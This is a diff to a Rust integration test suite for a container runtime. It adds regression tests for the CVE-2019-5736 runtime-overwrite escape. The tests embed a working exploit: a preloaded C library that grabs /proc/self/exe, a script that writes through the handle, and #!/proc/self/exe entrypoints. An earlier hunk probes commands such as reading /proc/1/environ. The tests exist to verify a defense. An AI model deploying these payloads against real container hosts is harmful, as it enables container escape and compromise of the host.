@@ -170,12 +170,13 @@ fn exec_into_a_created_container_cannot_reach_the_runtime() {
         std::fs::read_to_string(&err_path).unwrap_or_default()
     );
     assert_eq!(c.status(), "created");
-    // Precondition: the parked init is still the runtime binary.
+    // Precondition: the parked init still runs the runtime's file (through its read-only
+    // handle: the link names no host path).
     let pid = c.state()["pid"].as_i64().unwrap();
-    assert_eq!(
-        std::fs::canonicalize(std::fs::read_link(format!("/proc/{pid}/exe")).unwrap()).unwrap(),
-        std::fs::canonicalize(&bin).unwrap()
-    );
+    use std::os::unix::fs::MetadataExt;
+    let exe = std::fs::metadata(format!("/proc/{pid}/exe")).unwrap();
+    let file = std::fs::metadata(&bin).unwrap();
+    assert_eq!((exe.dev(), exe.ino()), (file.dev(), file.ino()));
     let script = "\
         try() { if (eval \"$2\") >/dev/null 2>&1; then echo \"$1 OPEN\"; else echo \"$1 denied\"; fi; }; \
         try environ 'cat /proc/1/environ'; \
@@ -389,4 +390,266 @@ fn masking_uses_the_host_dev_null_not_the_containers() {
         image_passwd
     );
     assert_eq!(std::fs::read("/etc/passwd").unwrap(), host_passwd);
+}
+
+// ---- CVE-2019-5736: the runtime binary cannot be overwritten from a container ------------
+
+/// A shared library that the container's dynamic loader preloads into any dynamic program
+/// run inside it: it takes an `O_PATH` handle on `/proc/self/exe` (the program the kernel ran
+/// for `#!/proc/self/exe`) and execs `/attack.sh` with it, so that nothing in the container
+/// executes the binary any more. The script then tries to write through the handle until the
+/// runtime on the host has let go of the file too.
+const PAYLOAD_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <unistd.h>
+__attribute__((constructor)) static void take_the_binary(void) {
+    int fd = open("/proc/self/exe", O_PATH);
+    char arg[16];
+    snprintf(arg, sizeof arg, "%d", fd);
+    execl("/bin/busybox", "sh", "/attack.sh", arg, (char *)0);
+    _exit(99);
+}
+"#;
+
+/// Tries while the host's runtime still executes the file (ETXTBSY, up to ~20 s), then the
+/// last error is the result. `written` means the host binary was replaced.
+const ATTACK_SH: &str = r#"fd=$1
+echo started > /result
+i=0
+while [ $i -lt 200 ]; do
+    if ( printf PWNED 1<> /proc/self/fd/$fd ) 2>/err; then echo written > /result; exit 0; fi
+    grep -q busy /err || break
+    i=$((i+1)); sleep 0.1
+done
+cat /err > /result
+"#;
+
+/// A copy of the runtime under test (so a failing test cannot break the build's binary), a
+/// bundle whose rootfs can run that copy (its loader and libraries, copied from the host), a
+/// preloaded payload and a command script `#!/proc/self/exe`.
+struct OverwriteAttack {
+    dir: ScratchDir,
+    victim: std::path::PathBuf,
+    before: String,
+    c: Container,
+}
+
+impl OverwriteAttack {
+    /// With the payload preloaded (for a dynamic runtime).
+    fn new(name: &str) -> OverwriteAttack {
+        let a = OverwriteAttack::without_payload(name);
+        let rootfs = a.c.bundle.rootfs();
+        let src = a.dir.path().join("payload.c");
+        std::fs::write(&src, PAYLOAD_C).unwrap();
+        let built = Command::new("cc")
+            .args(["-shared", "-fPIC", "-o"])
+            .arg(rootfs.join("payload.so"))
+            .arg(&src)
+            .output()
+            .expect("cc (gcc) builds the payload");
+        assert!(built.status.success(), "cc: {}", built.stderr_text());
+        std::fs::write(rootfs.join("etc/ld.so.preload"), "/payload.so\n").unwrap();
+        a
+    }
+
+    fn without_payload(name: &str) -> OverwriteAttack {
+        let dir = ScratchDir::new(name);
+        let victim = dir.path().join("pelagos-runtime");
+        std::fs::copy(runtime_bin(), &victim).expect("copy the runtime");
+        let c = Container::new(name);
+        let rootfs = c.bundle.rootfs();
+        for lib in dynamic_libraries(&victim) {
+            let dest = rootfs.join(lib.strip_prefix("/").unwrap());
+            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
+            std::fs::copy(&lib, &dest).expect("copy a library");
+        }
+        std::fs::write(rootfs.join("attack.sh"), ATTACK_SH).unwrap();
+        write_executable(&rootfs.join("evil.sh"), "#!/proc/self/exe\n");
+        write_executable(&rootfs.join("evil-link.sh"), "#!/proc/thread-self/exe\n");
+        std::os::unix::fs::symlink("/proc/self/exe", rootfs.join("self-link")).unwrap();
+        write_executable(&rootfs.join("evil-symlink.sh"), "#!/self-link\n");
+        let before = sha256(&victim);
+        OverwriteAttack {
+            dir,
+            victim,
+            before,
+            c,
+        }
+    }
+
+    /// Run the victim copy with `--root` of the test container. Its stderr goes to a file:
+    /// a container's processes inherit it and may outlive the call.
+    fn victim_ok(&self, args: &[&str]) {
+        let stderr_path = self.dir.path().join("stderr");
+        let stderr = std::fs::File::create(&stderr_path).expect("stderr file");
+        let status = Command::new(&self.victim)
+            .arg("--root")
+            .arg(&self.c.root)
+            .args(args)
+            .current_dir(&self.c.bundle.dir)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(stderr)
+            .status()
+            .expect("spawn the victim runtime");
+        let text = std::fs::read_to_string(&stderr_path).unwrap_or_default();
+        assert!(status.success(), "{args:?}: {text}");
+    }
+
+    /// Wait for the attack script's verdict (it ends by itself within about 20 s).
+    fn verdict(&self) -> String {
+        let result = self.c.bundle.rootfs().join("result");
+        for _ in 0..600 {
+            let text = std::fs::read_to_string(&result).unwrap_or_default();
+            if !text.is_empty() && text.trim() != "started" {
+                return text.trim().to_string();
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        panic!(
+            "the payload never reported (result: {:?}); did it run?",
+            std::fs::read_to_string(&result).ok()
+        );
+    }
+
+    /// The attack ran (the payload was loaded by the binary the kernel ran) and failed.
+    fn assert_binary_unchanged(&self) {
+        let verdict = self.verdict();
+        assert_ne!(verdict, "written", "the container wrote the runtime binary");
+        assert_eq!(
+            sha256(&self.victim),
+            self.before,
+            "the runtime binary changed (verdict {verdict:?}); kept in {}",
+            self.dir.path().display()
+        );
+    }
+}
+
+/// A directory of the test's own, removed when dropped (also when the test fails).
+struct ScratchDir(std::path::PathBuf);
+
+impl ScratchDir {
+    fn new(name: &str) -> ScratchDir {
+        let dir = std::env::temp_dir().join(unique(&format!("pelagos-it-{name}")));
+        std::fs::create_dir_all(&dir).expect("mkdir scratch");
+        ScratchDir(dir)
+    }
+    fn path(&self) -> &Path {
+        &self.0
+    }
+}
+
+impl Drop for ScratchDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+fn write_executable(path: &Path, text: &str) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::write(path, text).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// The loader and libraries a dynamic executable needs (none for a static one).
+fn dynamic_libraries(exe: &Path) -> Vec<std::path::PathBuf> {
+    let out = Command::new("ldd").arg(exe).output().expect("ldd");
+    out.stdout_text()
+        .lines()
+        .filter_map(|l| {
+            l.split_whitespace()
+                .find(|w| w.starts_with('/'))
+                .map(std::path::PathBuf::from)
+        })
+        .collect()
+}
+
+#[test]
+fn the_runtime_binary_cannot_be_overwritten_through_create_and_start() {
+    let a = OverwriteAttack::new("sec-5736-start");
+    a.c.bundle.set_args(&["/evil.sh"]);
+    a.victim_ok(&[
+        "create",
+        "--bundle",
+        a.c.bundle.dir.to_str().unwrap(),
+        &a.c.id,
+    ]);
+    a.victim_ok(&["start", &a.c.id]);
+    a.assert_binary_unchanged();
+}
+
+#[test]
+fn the_runtime_binary_cannot_be_overwritten_through_run() {
+    let a = OverwriteAttack::new("sec-5736-run");
+    a.c.bundle.set_args(&["/evil-link.sh"]);
+    a.victim_ok(&[
+        "run",
+        "--detach",
+        "--bundle",
+        a.c.bundle.dir.to_str().unwrap(),
+        &a.c.id,
+    ]);
+    a.assert_binary_unchanged();
+}
+
+#[test]
+fn the_runtime_binary_cannot_be_overwritten_through_exec() {
+    let a = OverwriteAttack::new("sec-5736-exec");
+    a.c.bundle.set_args(&["sleep", "60"]);
+    a.victim_ok(&[
+        "run",
+        "--detach",
+        "--bundle",
+        a.c.bundle.dir.to_str().unwrap(),
+        &a.c.id,
+    ]);
+    a.victim_ok(&["exec", "--detach", &a.c.id, "/evil-symlink.sh"]);
+    a.assert_binary_unchanged();
+}
+
+/// Static and dynamic builds alike, no payload: the runtime binary, run inside the container
+/// by an exec'd `#!/proc/self/exe --log=/fifo` script, blocks opening its log (a fifo); a
+/// second process of the container takes a handle on its `/proc/PID/exe`, lets it finish, and
+/// writes through the handle once nothing executes the file.
+#[test]
+fn a_handle_on_the_runtime_binary_held_inside_cannot_write_it() {
+    let a = OverwriteAttack::without_payload("sec-5736-held");
+    let rootfs = a.c.bundle.rootfs();
+    write_executable(
+        &rootfs.join("evil-fifo.sh"),
+        "#!/proc/self/exe --log=/fifo\n",
+    );
+    nix_mkfifo(&rootfs.join("fifo"));
+    std::fs::write(
+        rootfs.join("watch.sh"),
+        r#"for i in $(seq 1 200); do
+    pid=$(grep -l fifo /proc/[0-9]*/cmdline 2>/dev/null | grep -v self | head -n 1 | cut -d/ -f3)
+    [ -n "$pid" ] && break
+    sleep 0.1
+done
+exec 3< /proc/$pid/exe || { echo no-handle > /result; exit 1; }
+cat /fifo > /dev/null
+while [ -e /proc/$pid ]; do sleep 0.1; done
+exec sh /attack.sh 3
+"#,
+    )
+    .unwrap();
+    a.c.bundle.set_args(&["sleep", "60"]);
+    a.victim_ok(&[
+        "run",
+        "--detach",
+        "--bundle",
+        a.c.bundle.dir.to_str().unwrap(),
+        &a.c.id,
+    ]);
+    a.victim_ok(&["exec", "--detach", &a.c.id, "/evil-fifo.sh"]);
+    a.victim_ok(&["exec", "--detach", &a.c.id, "sh", "/watch.sh"]);
+    a.assert_binary_unchanged();
+}
+
+fn nix_mkfifo(path: &Path) {
+    let status = Command::new("mkfifo").arg(path).status().expect("mkfifo");
+    assert!(status.success());
 }
